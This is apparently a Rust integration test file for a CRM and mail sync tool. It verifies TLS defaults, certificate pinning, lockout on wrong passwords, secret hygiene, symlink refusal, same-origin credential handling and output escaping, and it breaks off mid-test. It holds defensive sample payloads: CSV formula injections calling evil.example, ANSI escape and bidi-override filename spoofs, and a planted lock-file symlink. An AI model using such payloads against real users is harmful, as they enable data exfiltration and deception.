//! Security (issue 9, item 6): TLS verification on by default for IMAP and
//! WebDAV (X11), one login attempt per wrong password (X2, counted on the
//! wire), no secret in any output or file (X3), private state and lock
//! files, and two real concurrent runs (X4). `check.rs` covers the
//! `check`-command side of X2/X11; these tests drive the syncing commands.
//!
//! Issue 16: credentials only to the configured origin (X3a), no link
//! followed at the state or lock file (X4a), a newer schema refused by a
//! dry run (X8), self-signed servers pinned by certificate or fingerprint
//! (X11a), CSV cells safe in a spreadsheet (X10a), no raw control or bidi
//! character on a terminal (X6a).

use std::io::Read;
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::cli::Env;
use crate::faultproxy::{Dir, Fault, FaultProxy};
use crate::harness::{self, Dovecot};
use crate::import_mail::mail;

/// An IMAP account `m` of alice on `port`, with `extra` keys.
fn imap_env(login: &str, port: u16, tls: &str, extra: &str) -> Env {
    let env = Env::new(&format!(
        "[[mail.accounts]]\nname = \"m\"\nuser = \"alice\"\nsource = \"imap\"\nhost = \"127.0.0.1\"\n\
         port = {port}\ntls = \"{tls}\"\nlogin = \"{login}\"\npassword_env = \"IMAP_PW\"\n{extra}\n"
    ));
    env.load_directory();
    env
}

/// `crmsync <global args> <args>` with IMAP_PW set: (code, stdout, stderr).
fn run_pw(env: &Env, pw: &str, args: &[&str]) -> (i32, String, String) {
    let out = env.cmd().env("IMAP_PW", pw).args(args).output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn json(out: &str) -> Value {
    serde_json::from_str(out).unwrap_or_else(|e| panic!("not JSON ({e}): {out}"))
}

#[test]
fn x11_import_mail_verifies_tls_by_default_and_trusts_the_account_ca_file() {
    let Some(d) = harness::dovecot() else { return };
    let (login, pw) = d.add_user("sec-tls");
    d.append(
        &login,
        "INBOX",
        &mail("jane@acme.example", "alice@us.example", "tls", "", "."),
    );
    // No ca_file: the throwaway CA is not trusted, nothing is imported.
    let env = imap_env(&login, d.imaps_port, "tls", "");
    let (code, out, err) = run_pw(&env, &pw, &["--json", "import-mail"]);
    assert_ne!(code, 0, "{out} {err}");
    let text = format!("{out}{err}");
    assert!(
        text.contains("certificate") && text.contains("ca_file"),
        "the error must say why and name the fix: {text}"
    );
    assert_eq!(env.json(&["report"])["activities"], serde_json::json!([]));
    // The account's ca_file: verified, imported.
    let ca = format!("ca_file = \"{}\"", d.ca_cert.display());
    let env = imap_env(&login, d.imaps_port, "tls", &ca);
    let (code, out, err) = run_pw(&env, &pw, &["--json", "import-mail"]);
    assert_eq!(code, 0, "{out} {err}");
    assert_eq!(json(&out)["counts"]["imported"], 1, "{out}");
    // STARTTLS is verified the same way.
    let env = imap_env(&login, d.port, "starttls", "");
    let (code, out, err) = run_pw(&env, &pw, &["--json", "check"]);
    assert_eq!(code, 1, "{out} {err}");
    assert!(out.contains("ca_file"), "{out}");
}

/// A second Radicale serving HTTPS with Dovecot's certificate (signed by the
/// harness's throwaway CA); killed when dropped.
struct TlsRadicale {
    child: Child,
    port: u16,
    _dir: tempfile::TempDir,
    login: String,
    pw: String,
}

impl TlsRadicale {
    /// A CardDAV account `book` of alice on this server, with `extra` keys.
    fn carddav(&self, extra: &str) -> String {
        format!(
            "[[contacts.accounts]]\nname = \"book\"\nuser = \"alice\"\nsource = \"carddav\"\n\
             url = \"https://127.0.0.1:{}/\"\nlogin = \"{}\"\npassword_env = \"DAV_PW\"\n{extra}\n",
            self.port, self.login
        )
    }

    /// `crmsync --json check` with the DAV password (and a CRM token):
    /// (exit code, stdout and stderr).
    fn check(&self, env: &Env) -> (i32, String) {
        let out = env
            .cmd()
            .env("DAV_PW", &self.pw)
            .env("CRM_TOKEN", "not-a-real-token")
            .args(["--json", "check"])
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            ),
        )
    }
}

impl Drop for TlsRadicale {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn radicale_bin() -> PathBuf {
    let home = std::env::var("CRMSYNC_TESTBED_HOME")
        .map(PathBuf::from)
        .unwrap_or_else(|_| Path::new(env!("CARGO_MANIFEST_DIR")).join(".testbed"));
    std::env::var("TB_RADICALE_BIN")
        .map(PathBuf::from)
        .unwrap_or_else(|_| home.join("radicale-venv/bin/radicale"))
}

fn tls_radicale(d: &Dovecot) -> Option<TlsRadicale> {
    let bin = radicale_bin();
    if !bin.exists() {
        assert!(
            !harness::servers_required(),
            "radicale not installed at {}",
            bin.display()
        );
        eprintln!("SKIPPED: radicale not installed at {}", bin.display());
        return None;
    }
    let dir = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind((harness::HOST, 0))
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let login = harness::unique_name("tlsdav");
    let pw = format!("pw-{}", harness::unique_name("s"));
    std::fs::write(dir.path().join("users"), format!("{login}:{pw}\n")).unwrap();
    std::fs::create_dir_all(dir.path().join("collections/collection-root")).unwrap();
    let ssl = d.dir.join("ssl");
    std::fs::write(
        dir.path().join("config"),
        format!(
            "[server]\nhosts = 127.0.0.1:{port}\nssl = True\ncertificate = {}\nkey = {}\ndelay_on_error = 0\n\
             [auth]\ntype = htpasswd\nhtpasswd_filename = {}\nhtpasswd_encryption = plain\ndelay = 0\n\
             [rights]\ntype = owner_only\n[storage]\nfilesystem_folder = {}\n[web]\ntype = none\n\
             [logging]\nlevel = warning\n",
            ssl.join("cert.pem").display(),
            ssl.join("key.pem").display(),
            dir.path().join("users").display(),
            dir.path().join("collections").display()
        ),
    )
    .unwrap();
    let log = std::fs::File::create(dir.path().join("radicale.log")).unwrap();
    let child = Command::new(&bin)
        .arg("--config")
        .arg(dir.path().join("config"))
        .stdin(Stdio::null())
        .stdout(log.try_clone().unwrap())
        .stderr(log)
        .spawn()
        .unwrap();
    let r = TlsRadicale {
        child,
        port,
        _dir: dir,
        login,
        pw,
    };
    let t0 = Instant::now();
    while TcpStream::connect((harness::HOST, port)).is_err() {
        assert!(
            t0.elapsed() < Duration::from_secs(60),
            "TLS radicale did not come up"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    Some(r)
}

#[test]
fn x11_webdav_verifies_tls_by_default_and_trusts_ca_file_or_insecure() {
    let Some(d) = harness::dovecot() else { return };
    let Some(r) = tls_radicale(d) else { return };
    let cfg = |extra: &str| r.carddav(extra);
    let check = |env: &Env| r.check(env);
    let (code, out) = check(&Env::new(&cfg("")));
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("certificate") && out.contains("ca_file"),
        "the error must say why and name the fix: {out}"
    );
    let ca = format!("ca_file = \"{}\"", d.ca_cert.display());
    let (code, out) = check(&Env::new(&cfg(&ca)));
    assert_eq!(code, 0, "{out}");
    let (code, out) = check(&Env::new(&cfg("insecure_skip_verify = true")));
    assert_eq!(code, 0, "{out}");
}

#[test]
fn x2_import_mail_with_a_wrong_password_sends_exactly_one_login() {
    let Some(d) = harness::dovecot() else { return };
    let (login, _pw) = d.add_user("sec-x2");
    let proxy = FaultProxy::start(d.port);
    let env = imap_env(&login, proxy.port, "none", "");
    for _ in 0..3 {
        let (code, out, err) = run_pw(&env, "Wrong-Pass-42", &["--json", "import-mail"]);
        assert_eq!(code, 1, "{out} {err}");
    }
    assert_eq!(
        proxy.count_up(" LOGIN "),
        1,
        "one LOGIN over three runs (X2); the proxy saw {} connections",
        proxy.connections()
    );
    assert_eq!(proxy.connections(), 1);
}

/// Every file in the state file's directory except the config and CSVs.
fn state_files(env: &Env) -> Vec<PathBuf> {
    std::fs::read_dir(env.dir.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with("state.sqlite"))
        })
        .collect()
}

#[test]
fn x3_no_secret_in_output_errors_json_or_state_and_files_are_0600() {
    let Some(d) = harness::dovecot() else { return };
    let (login, pw) = d.add_user("sec-x3");
    d.create_folder(&login, "CRM Import");
    d.append(
        &login,
        "INBOX",
        &mail("jane@acme.example", "alice@us.example", "secret", "", "."),
    );
    let env = imap_env(&login, d.port, "none", "folders = [\"INBOX\", \"Nope\"]");
    let wrong = "Wr0ng-Secret-Value";
    let mut seen = String::new();
    for args in [
        &["-v", "import-mail"][..],
        &["--json", "import-mail"],
        &["-v", "check"],
        &["--json", "check"],
        &["-v", "--json", "report"],
        &["-v", "explain", "x"],
    ] {
        let (_, out, err) = run_pw(&env, &pw, args);
        seen.push_str(&out);
        seen.push_str(&err);
    }
    // A folder error names the folder but not the password.
    assert!(seen.contains("Nope"), "{seen}");
    // Fix the folder list, import, then a wrong password (blocked) and again.
    let env2 = imap_env(&login, d.port, "none", "");
    std::fs::copy(env.path("state.sqlite"), env2.path("state.sqlite")).unwrap();
    let (code, out, err) = run_pw(&env2, &pw, &["-v", "--json", "import-mail"]);
    assert_eq!(code, 0, "{out} {err}");
    seen.push_str(&out);
    seen.push_str(&err);
    for args in [
        &["-v", "import-mail"][..],
        &["-v", "--json", "import-mail"],
        &["-v", "--json", "check"],
    ] {
        let (code, out, err) = run_pw(&env2, wrong, args);
        assert_ne!(code, 0, "{out} {err}");
        seen.push_str(&out);
        seen.push_str(&err);
    }
    assert!(seen.contains("unblock"), "the lockout was reported: {seen}");
    for secret in [pw.as_str(), wrong] {
        assert!(!seen.contains(secret), "secret {secret} printed:\n{seen}");
    }
    for e in [&env, &env2] {
        let files = state_files(e);
        assert!(
            files.iter().any(|p| p.ends_with("state.sqlite.lock")),
            "{files:?}"
        );
        for f in files {
            let mut bytes = Vec::new();
            std::fs::File::open(&f)
                .unwrap()
                .read_to_end(&mut bytes)
                .unwrap();
            for secret in [pw.as_str(), wrong] {
                assert!(
                    !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
                    "secret found in {}",
                    f.display()
                );
            }
            let mode = std::fs::metadata(&f).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, 0o600, "{} is {mode:o}", f.display());
        }
    }
}

#[test]
fn x4_two_concurrent_import_mail_runs_the_second_exits_75() {
    let Some(d) = harness::dovecot() else { return };
    let (login, pw) = d.add_user("sec-x4");
    // The first run hangs on a silent server (greeting withheld) while
    // holding the lock; `timeout` bounds it.
    let proxy = FaultProxy::start(d.port);
    proxy.set(Fault::stall(Dir::Down, "* OK", 1, 0));
    let env = imap_env(&login, proxy.port, "none", "timeout = 4");
    let t0 = Instant::now();
    let first = env
        .cmd()
        .env("IMAP_PW", &pw)
        .args(["--json", "import-mail"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    while proxy.connections() == 0 {
        assert!(
            t0.elapsed() < Duration::from_secs(30),
            "first run never connected"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let (code, out, err) = run_pw(&env, &pw, &["--json", "import-mail"]);
    assert_eq!(code, 75, "{out} {err}");
    assert!(err.contains(&format!("process {}", first.id())), "{err}");
    let out = first.wait_with_output().unwrap();
    let elapsed = t0.elapsed();
    assert_ne!(out.status.code(), Some(0));
    assert!(
        elapsed < Duration::from_secs(20),
        "a silent server must end the run within the timeout: {elapsed:?}"
    );
    assert_eq!(proxy.injected(), 1);
}

/// Issue 16 item 6: a link planted at the lock or state file.
#[test]
fn x4a_a_symlink_or_hard_link_at_the_lock_or_state_file_is_refused_and_its_target_untouched() {
    let env = Env::new("");
    env.load_directory();
    let p = env.write("more.csv", "id,emails\nP9,nine@acme.example\n");
    let import = |env: &Env| env.run(&["crm", "import", p.to_str().unwrap(), "--kind", "persons"]);
    let victim = env.write("victim.txt", "precious\n");
    let lock = env.path("state.sqlite.lock");
    std::fs::remove_file(&lock).unwrap();
    std::os::unix::fs::symlink(&victim, &lock).unwrap();
    let (code, out, err) = import(&env);
    assert_ne!(code, 0, "{out} {err}");
    assert!(
        err.contains("symbolic link") && err.contains("state.sqlite.lock"),
        "the refusal says why and where: {err}"
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
    // A hard link is someone's file too.
    std::fs::remove_file(&lock).unwrap();
    std::fs::hard_link(&victim, &lock).unwrap();
    let (code, out, err) = import(&env);
    assert_ne!(code, 0, "{out} {err}");
    assert!(err.contains("hard link"), "{err}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
    std::fs::remove_file(&lock).unwrap();
    // A link at the state file itself: neither written nor read through.
    let real = env.path("state.sqlite");
    let moved = env.path("elsewhere.sqlite");
    std::fs::rename(&real, &moved).unwrap();
    std::os::unix::fs::symlink(&moved, &real).unwrap();
    let before = std::fs::read(&moved).unwrap();
    let (code, out, err) = import(&env);
    assert_ne!(code, 0, "{out} {err}");
    assert!(err.contains("symbolic link"), "{err}");
    assert_eq!(std::fs::read(&moved).unwrap(), before);
    // The real file back in place: the import runs.
    std::fs::remove_file(&real).unwrap();
    std::fs::rename(&moved, &real).unwrap();
    let (code, out, err) = import(&env);
    assert_eq!(code, 0, "{out} {err}");
}

/// Issue 16 item 8: a state file from a newer crmsync.
#[test]
fn x8_a_state_file_from_a_newer_schema_is_refused_by_a_dry_run_too() {
    let env = Env::new("");
    env.load_directory();
    let conn = rusqlite::Connection::open(env.path("state.sqlite")).unwrap();
    conn.pragma_update(None, "user_version", 999).unwrap();
    drop(conn);
    let p = env.write("more.csv", "id,emails\nP9,nine@acme.example\n");
    for dry in [true, false] {
        let mut args = vec!["--json"];
        if dry {
            args.push("--dry-run");
        }
        args.extend(["crm", "import", p.to_str().unwrap(), "--kind", "persons"]);
        let (code, out, err) = env.run(&args);
        assert_eq!(code, 2, "dry run {dry}: {out} {err}");
        assert!(
            err.contains("newer") && err.contains("upgrade crmsync"),
            "dry run {dry}: {err}"
        );
        // X15: with --json the error is the one document on stdout: no plan.
        let v: Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["ok"], false, "{out}");
        assert_eq!(v["counts"], serde_json::json!({}), "no plan printed: {out}");
    }
}

/// A loopback HTTP server answering each request with `answer(port of
/// its own)`; records every request head it saw. Runs until the test ends.
fn recording_server(
    answer: impl Fn(u16) -> String + Send + 'static,
) -> (u16, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use std::io::{BufRead, BufReader, Write};
    let l = std::net::TcpListener::bind((harness::HOST, 0)).unwrap();
    let port = l.local_addr().unwrap().port();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = seen.clone();
    std::thread::spawn(move || {
        for conn in l.incoming().flatten() {
            let mut r = BufReader::new(conn.try_clone().unwrap());
            let mut head = String::new();
            let mut len = 0usize;
            loop {
                let mut line = String::new();
                if r.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                    len = v.trim().parse().unwrap_or(0);
                }
                head.push_str(&line);
            }
            let mut body = vec![0; len];
            let _ = r.read_exact(&mut body);
            log.lock().unwrap().push(head);
            let _ = (&conn).write_all(answer(port).as_bytes());
        }
    });
    (port, seen)
}

/// Issue 16 item 1: a WebDAV server naming its principal on another origin
/// (an absolute href) or redirecting there must not make crmsync send the
/// account's password to that origin; nor a REST CRM redirecting there
/// its token.
#[test]
fn x3a_dav_credentials_never_go_to_another_origin_named_by_href_or_redirect() {
    // The other origin: a second port on loopback, answering 401 as a
    // password-collecting server would.
    let (other, other_seen) = recording_server(|_| {
        "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            .to_string()
    });
    let principal = move |_| {
        let xml = format!(
            "<?xml version=\"1.0\"?><d:multistatus xmlns:d=\"DAV:\"><d:response><d:href>/</d:href><d:propstat><d:prop>\
             <d:current-user-principal><d:href>http://127.0.0.1:{other}/alice/</d:href></d:current-user-principal>\
             </d:prop><d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response></d:multistatus>"
        );
        format!(
            "HTTP/1.1 207 Multi-Status\r\nContent-Type: application/xml\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{xml}",
            xml.len()
        )
    };
    let redirect = move |_| {
        format!(
            "HTTP/1.1 301 Moved Permanently\r\nLocation: http://127.0.0.1:{other}/dav/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
    };
    let (by_href, href_seen) = recording_server(principal);
    let (by_redirect, redirect_seen) = recording_server(redirect);
    for (port, seen) in [(by_href, &href_seen), (by_redirect, &redirect_seen)] {
        let env = Env::new(&format!(
            "[[contacts.accounts]]\nname = \"book\"\nuser = \"alice\"\nsource = \"carddav\"\n\
             url = \"http://127.0.0.1:{port}/\"\nlogin = \"alice\"\npassword_env = \"DAV_PW\"\n"
        ));
        env.load_directory();
        for args in [&["--json", "check"][..], &["--json", "push-contacts"]] {
            let out = env
                .cmd()
                .env("DAV_PW", "S3cret-Pw")
                .args(args)
                .output()
                .unwrap();
            let text = format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            );
            assert_ne!(out.status.code(), Some(0), "{args:?}: {text}");
            assert!(
                text.contains("another origin")
                    && text.contains(&format!("127.0.0.1:{other}"))
                    && text.contains("configure that URL directly"),
                "{args:?} must say why and what to do: {text}"
            );
            // Not mistaken for a wrong password (X2 would block the account).
            assert!(!text.contains("unblock"), "{args:?}: {text}");
        }
        // The configured server got the password, as it should.
        let heads = seen.lock().unwrap().clone();
        assert!(!heads.is_empty());
        assert!(
            heads
                .iter()
                .all(|h| h.to_ascii_lowercase().contains("authorization: basic")),
            "{heads:?}"
        );
    }
    // The REST CRM client: a base_url redirecting to the other origin.
    let env = Env::new(&format!(
        "[crm]\nbackend = \"rest\"\n[crm.rest]\npreset = \"bottlecrm\"\n\
         base_url = \"http://127.0.0.1:{by_redirect}\"\ntoken_env = \"CRM_TOKEN\"\nattempts = 1\n"
    ));
    let out = env
        .cmd()
        .env("CRM_TOKEN", "S3cret-Token")
        .args(["--json", "check"])
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_ne!(out.status.code(), Some(0), "{text}");
    assert!(
        text.contains("another origin") && text.contains("crm.rest.base_url = "),
        "{text}"
    );
    assert!(!text.contains("unblock"), "{text}");
    let stolen = other_seen.lock().unwrap().clone();
    assert!(
        stolen
            .iter()
            .all(|h| !h.to_ascii_lowercase().contains("authorization")),
        "the other origin received credentials: {stolen:?}"
    );
    assert!(
        stolen.is_empty(),
        "nothing at all goes to the other origin: {stolen:?}"
    );
}

/// `openssl x509 -fingerprint -sha256` of a PEM certificate: `AB:CD:...`.
fn openssl_fingerprint(pem: &Path) -> String {
    let out = Command::new("openssl")
        .args(["x509", "-noout", "-fingerprint", "-sha256", "-in"])
        .arg(pem)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    text.trim()
        .rsplit_once('=')
        .map(|(_, v)| v.to_string())
        .unwrap_or_else(|| panic!("{text}"))
}

/// Issue 16 item 5: Dovecot with a self-signed certificate (CA:TRUE, as
/// `openssl req -x509` makes it). Refused by default with its fingerprint
/// and the ways to trust it; trusted when `ca_file` is that certificate
/// (mbsync's CertificateFile) or by `tls_fingerprint`; a wrong pin and TLS
/// to the plain-text port are said in words.
#[test]
fn x11a_self_signed_imap_is_trusted_by_its_own_certificate_or_fingerprint_and_refusals_say_why() {
    let Some(d) = harness::dovecot_self_signed() else {
        return;
    };
    let fp = openssl_fingerprint(&d.ca_cert);
    let (login, pw) = d.add_user("sec-pin");
    d.append(
        &login,
        "INBOX",
        &mail("jane@acme.example", "alice@us.example", "pinned", "", "."),
    );
    let env = imap_env(&login, d.imaps_port, "tls", "");
    let (code, out, err) = run_pw(&env, &pw, &["--json", "import-mail"]);
    assert_ne!(code, 0, "{out} {err}");
    let text = format!("{out}{err}");
    for want in ["self-signed", fp.as_str(), "tls_fingerprint", "ca_file"] {
        assert!(text.contains(want), "the refusal must name {want}: {text}");
    }
    for debug in ["CaUsedAsEndEntity", "InvalidCertificate", "Other("] {
        assert!(!text.contains(debug), "no Debug text ({debug}): {text}");
    }
    // ca_file = the server's own certificate: pinned, imported.
    let pin_file = format!("ca_file = \"{}\"", d.ca_cert.display());
    let env = imap_env(&login, d.imaps_port, "tls", &pin_file);
    let (code, out, err) = run_pw(&env, &pw, &["--json", "import-mail"]);
    assert_eq!(code, 0, "{out} {err}");
    assert_eq!(json(&out)["counts"]["imported"], 1, "{out}");
    // tls_fingerprint, as openssl prints it, over TLS and STARTTLS.
    let pin = format!("tls_fingerprint = \"{fp}\"");
    for (port, tls) in [(d.imaps_port, "tls"), (d.port, "starttls")] {
        let env = imap_env(&login, port, tls, &pin);
        let (code, out, err) = run_pw(&env, &pw, &["--json", "check"]);
        assert_eq!(code, 0, "{tls}: {out} {err}");
    }
    // A wrong pin names both fingerprints.
    let other = "AA:".repeat(31) + "AA";
    let env = imap_env(
        &login,
        d.imaps_port,
        "tls",
        &format!("tls_fingerprint = \"{other}\""),
    );
    let (code, out, err) = run_pw(&env, &pw, &["--json", "import-mail"]);
    assert_ne!(code, 0, "{out} {err}");
    let text = format!("{out}{err}");
    assert!(
        text.contains(&fp) && text.contains(&other) && text.contains("renewed"),
        "{text}"
    );
    // A malformed pin is a config error naming the key.
    let env = Env::new(&format!(
        "[[mail.accounts]]\nname = \"m\"\nuser = \"alice\"\nsource = \"imap\"\nhost = \"127.0.0.1\"\n\
         port = {}\ntls = \"tls\"\nlogin = \"{login}\"\npassword_env = \"IMAP_PW\"\ntls_fingerprint = \"12:34\"\n",
        d.imaps_port
    ));
    let (code, out, err) = run_pw(&env, &pw, &["--json", "check"]);
    assert_eq!(code, 2, "{out} {err}");
    assert!(
        err.contains("tls_fingerprint") && err.contains("64 hex"),
        "{err}"
    );
    // TLS to the plain-text port: said in words, with the fix.
    let env = imap_env(&login, d.port, "tls", &pin);
    let (code, out, err) = run_pw(&env, &pw, &["--json", "import-mail"]);
    assert_ne!(code, 0, "{out} {err}");
    let text = format!("{out}{err}");
    assert!(
        text.contains("plain-text port") && text.contains("starttls"),
        "{text}"
    );
    assert!(!text.contains("InvalidContentType"), "{text}");
}

/// Issue 16 item 5 over HTTPS: a WebDAV server (Radicale) and the REST
/// client with the self-signed certificate.
#[test]
fn x11a_self_signed_https_is_trusted_by_its_own_certificate_or_fingerprint() {
    let Some(d) = harness::dovecot_self_signed() else {
        return;
    };
    let Some(r) = tls_radicale(d) else { return };
    let fp = openssl_fingerprint(&d.ca_cert);
    let cfg = |extra: &str| r.carddav(extra);
    let check = |env: &Env| r.check(env);
    let (code, out) = check(&Env::new(&cfg("")));
    assert_eq!(code, 1, "{out}");
    for want in ["self-signed", fp.as_str(), "tls_fingerprint"] {
        assert!(out.contains(want), "the refusal must name {want}: {out}");
    }
    assert!(!out.contains("CaUsedAsEndEntity"), "{out}");
    let pin_file = format!("ca_file = \"{}\"", d.ca_cert.display());
    let (code, out) = check(&Env::new(&cfg(&pin_file)));
    assert_eq!(code, 0, "{out}");
    let (code, out) = check(&Env::new(&cfg(&format!("tls_fingerprint = \"{fp}\""))));
    assert_eq!(code, 0, "{out}");
    // The REST client: Radicale is no CRM, but TLS must pass with the pin
    // (the error is then about the answer, not the certificate).
    let rest = |extra: &str| {
        format!(
            "[crm]\nbackend = \"rest\"\n[crm.rest]\npreset = \"bottlecrm\"\nbase_url = \"https://127.0.0.1:{}\"\n\
             token_env = \"CRM_TOKEN\"\n{extra}\n",
            r.port
        )
    };
    let (code, out) = check(&Env::new(&rest("")));
    assert_ne!(code, 0, "{out}");
    assert!(
        out.contains(&fp) && out.contains("crm.rest.tls_fingerprint"),
        "{out}"
    );
    let (code, out) = check(&Env::new(&rest(&format!("tls_fingerprint = \"{fp}\""))));
    assert_ne!(code, 0, "Radicale is no CRM: {out}");
    assert!(
        !out.contains("certificate"),
        "TLS passed with the pin: {out}"
    );
}

/// Issue 16 item 7: formula cells in `report --csv` (a mail subject from
/// Dovecot) and `crm export` are neutralised per OWASP, and `crm import`
/// of the export reads the very values back.
#[test]
fn x10a_csv_formula_cells_are_neutralised_and_export_round_trips_through_import() {
    let evil_name = "=HYPERLINK(\"http://evil.example/?x\",\"click\")";
    let env = Env::new("");
    env.load_directory();
    let persons = env.write(
        "evil.csv",
        "id,first_name,last_name,emails,phones\n\
         P7,\"=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"click\"\")\",@SUM(A1),evil@acme.example,-1+2\n\
         P8,'t,'=x,quote@acme.example,\n",
    );
    let (code, _, err) = env.run(&[
        "crm",
        "import",
        persons.to_str().unwrap(),
        "--kind",
        "persons",
    ]);
    assert_eq!(code, 0, "{err}");
    let before = env.json(&["crm", "list", "--kind", "persons"]);
    let p7 = before["persons"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["id"] == "P7")
        .unwrap()
        .clone();
    assert_eq!(p7["first_name"], evil_name, "JSON keeps the exact text");
    let (code, out, err) = env.run(&["crm", "export", "--kind", "persons"]);
    assert_eq!(code, 0, "{err}");
    let mut rdr = csv::Reader::from_reader(out.as_bytes());
    for rec in rdr.records() {
        for cell in rec.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula cell in crm export: {cell:?}\n{out}"
            );
        }
    }
    assert!(
        out.contains(&format!("'{}", evil_name.replace('"', "\"\""))),
        "{out}"
    );
    assert!(
        out.contains("'+49 30 1234") && out.contains("'-1+2"),
        "{out}"
    );
    // The round trip: a fresh state importing the export has the same values.
    let copy = Env::new("");
    let (code, companies, err) = env.run(&["crm", "export", "--kind", "companies"]);
    assert_eq!(code, 0, "{err}");
    let cfile = copy.write("companies.csv", &companies);
    let (code, _, err) = copy.run(&[
        "crm",
        "import",
        cfile.to_str().unwrap(),
        "--kind",
        "companies",
    ]);
    assert_eq!(code, 0, "{err}");
    let file = copy.write("export.csv", &out);
    let (code, _, err) = copy.run(&["crm", "import", file.to_str().unwrap(), "--kind", "persons"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(copy.json(&["crm", "list", "--kind", "persons"]), before);

    // report --csv: a subject from a real mail server.
    let Some(d) = harness::dovecot() else { return };
    let s = crate::import_mail::setup(d, "");
    let subject = "=HYPERLINK(\"http://evil.example\",\"invoice\")";
    d.append(
        &s.login,
        "CRM Import",
        &mail("jane@acme.example", "alice@us.example", subject, "", "."),
    );
    let (code, v, err) = s.import(&[]);
    assert_eq!(code, 0, "{v:#} {err}");
    let (code, out, err) = s.env.run(&["report", "--csv"]);
    assert_eq!(code, 0, "{err}");
    let mut rdr = csv::Reader::from_reader(out.as_bytes());
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    assert!(!rows.is_empty(), "{out}");
    for rec in &rows {
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula cell in report --csv: {cell:?}\n{out}"
            );
        }
    }
    assert!(
        rows.iter()
            .any(|r| r.iter().any(|c| c == format!("'{subject}"))),
        "{out}"
    );
    // JSON output keeps the exact subject (it is data).
    s.by_subject(subject);
}

/// Issue 16 item 9: ESC, other controls and bidi overrides from a CSV
/// import and a mail subject reach no terminal raw (tables, messages);
/// JSON keeps the exact text.
#[test]
fn x6a_controls_and_bidi_overrides_from_outside_are_escaped_in_tables_but_kept_in_json() {
    let raw_name = "Ev\u{1b}[2J\u{1b}]0;pwned\u{7}il\u{202e}gpj.exe";
    let env = Env::new("");
    let persons = env.write(
        "odd.csv",
        &format!("id,first_name,last_name,emails\nP7,\"{raw_name}\",Doe,odd@acme.example\n"),
    );
    let (code, out, err) = env.run(&[
        "crm",
        "import",
        persons.to_str().unwrap(),
        "--kind",
        "persons",
    ]);
    assert_eq!(code, 0, "{out} {err}");
    let bad = |s: &str| {
        s.chars()
            .any(|c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c))
    };
    let (code, table, err) = env.run(&["crm", "list", "--kind", "persons"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        !bad(&table) && !bad(&err),
        "raw controls in the table: {table:?}"
    );
    assert!(
        table.contains("\\u{1b}[2J") && table.contains("\\u{202e}gpj.exe"),
        "{table}"
    );
    let v = env.json(&["crm", "list", "--kind", "persons"]);
    assert_eq!(
        v["persons"][0]["first_name"], raw_name,
        "JSON keeps the exact text"
    );

    // A mail subject from Dovecot (RFC 2047, Q-encoded ESC and U+202E).
    let Some(d) = harness::dovecot() else { return };
    let s = crate::import_mail::setup(d, "");
    d.append(
        &s.login,
        "CRM Import",
        &mail(
            "jane@acme.example",
            "alice@us.example",
            "=?UTF-8?Q?Invoice_=1B[31mred_=E2=80=AEfdp.exe?=",
            "",
            ".",
        ),
    );
    let (code, v, err) = s.import(&[]);
    assert_eq!(code, 0, "{v:#} {err}");
    // (The mail parser turns the ESC into a space; U+202E stays.)
    let subject = s
        .report()
        .into_iter()
        .filter_map(|a| a["subject"].as_str().map(str::to_string))
        .find(|t| t.contains("\u{202e}fdp.exe"))
        .expect("the subject keeps U+202E in JSON");
    for args in [&["report"][..], &["-v", "import-mail"]] {
        let out = s
            .env
            .cmd()
            .env("IMAP_PW", &s.pw)
            .args(args)
            .output()
            .unwrap();
        let (o, e) = (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        );
